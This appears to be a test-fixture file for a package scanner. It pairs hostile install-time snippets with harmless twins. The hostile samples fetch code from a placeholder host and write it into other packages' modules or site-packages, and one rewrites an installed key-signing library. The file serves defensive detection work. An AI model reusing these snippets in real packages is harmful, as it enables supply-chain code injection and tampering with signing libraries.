"""Samples and twins of programs that write among the files of other packages."""

from inspection.rules.sample import Sample, package

_OPENS = "const fs = require('fs'), path = require('path'), https = require('https')\n"
_PIECE = "path.join(__dirname, 'node_modules', 'a', 'lib')"
_SEARCHED = (
    f"const place = [path.join(__dirname, '..'), {_PIECE}].find((each) => fs.existsSync(each))\n"
    "const change = (folder) => https.get('https://a.invalid', (reply) => {\n  let all = ''\n"
    "  reply.on('data', (each) => (all += each))\n  reply.on('end', () => "
)
_PYTHON = "import os, requests, site, sysconfig\nimport other\nfrom pathlib import Path\n"
_GET = "requests.get('https://a.invalid').text"
_KEYS = "const place = require.resolve('ethers/lib/a.js')\nconst text = fs.readFileSync(place, 'utf8')\n"


def _installed(text: str) -> dict[str, str | bytes]:
    return {"package.json": package(install="node a.js"), "a.js": _OPENS + text}


def _python(text: str) -> dict[str, str | bytes]:
    return {"a.py": _PYTHON + text}


HOSTILE: dict[str, dict[str, Sample]] = {
    "remote_code": {
        "another package's module is fetched, where it is found": Sample(
            _installed(_SEARCHED + "fs.writeFileSync(path.join(folder, 'b.js'), all))\n})\nchange(place)\n"),
            "block",
            ("a.js", 6),
        ),
        "by the name under which it is loaded": Sample(
            _installed(
                "https.get('https://a.invalid', (reply) => reply.pipe(fs.createWriteStream("
                "path.join(path.dirname(require.resolve('a')), 'b.js'))))\n"
            ),
            "block",
            ("a.js", 2),
        ),
        "beside a module that is loaded": Sample(
            _python(f"open(os.path.join(os.path.dirname(other.__file__), 'a.py'), 'w').write({_GET})\n"),
            "block",
            ("a.py", 4),
        ),
        "among what is installed": Sample(
            _python(f"open(os.path.join(site.getsitepackages()[0], 'other', 'a.py'), 'w').write({_GET})\n"),
            "block",
            ("a.py", 4),
        ),
        "the same, by another name": Sample(
            _python(f"(Path(sysconfig.get_paths()['purelib']) / 'other' / 'a.py').write_text({_GET})\n"),
            "block",
            ("a.py", 4),
        ),
    },
    "persistence": {
        "a library that holds keys is changed": Sample(
            _installed(_KEYS + "fs.writeFileSync(place, text.replace('sign(', 'sign2('))\n"), "block", ("a.js", 4)
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "remote_code": {
        "another package's module is compared": _installed(
            _SEARCHED + "console.log(all === fs.readFileSync(path.join(folder, 'b.js'), 'utf8')))\n})\nchange(place)\n"
        ),
        "a table of its own is fetched": _python(
            f"open(os.path.join(os.path.dirname(__file__), 'a.json'), 'w').write({_GET})\n"
        ),
        "data beside a module that is loaded": _python(
            f"open(os.path.join(os.path.dirname(other.__file__), 'a.json'), 'w').write({_GET})\n"
        ),
    },
    "persistence": {
        "a library that holds keys is read": _installed(_KEYS + "console.log(text.length)\n"),
        "what a tool keeps among the packages": _installed(
            "fs.writeFileSync(path.join(__dirname, 'node_modules', '.cache', 'a.js'), 'module.exports = 1')\n"
        ),
    },
}
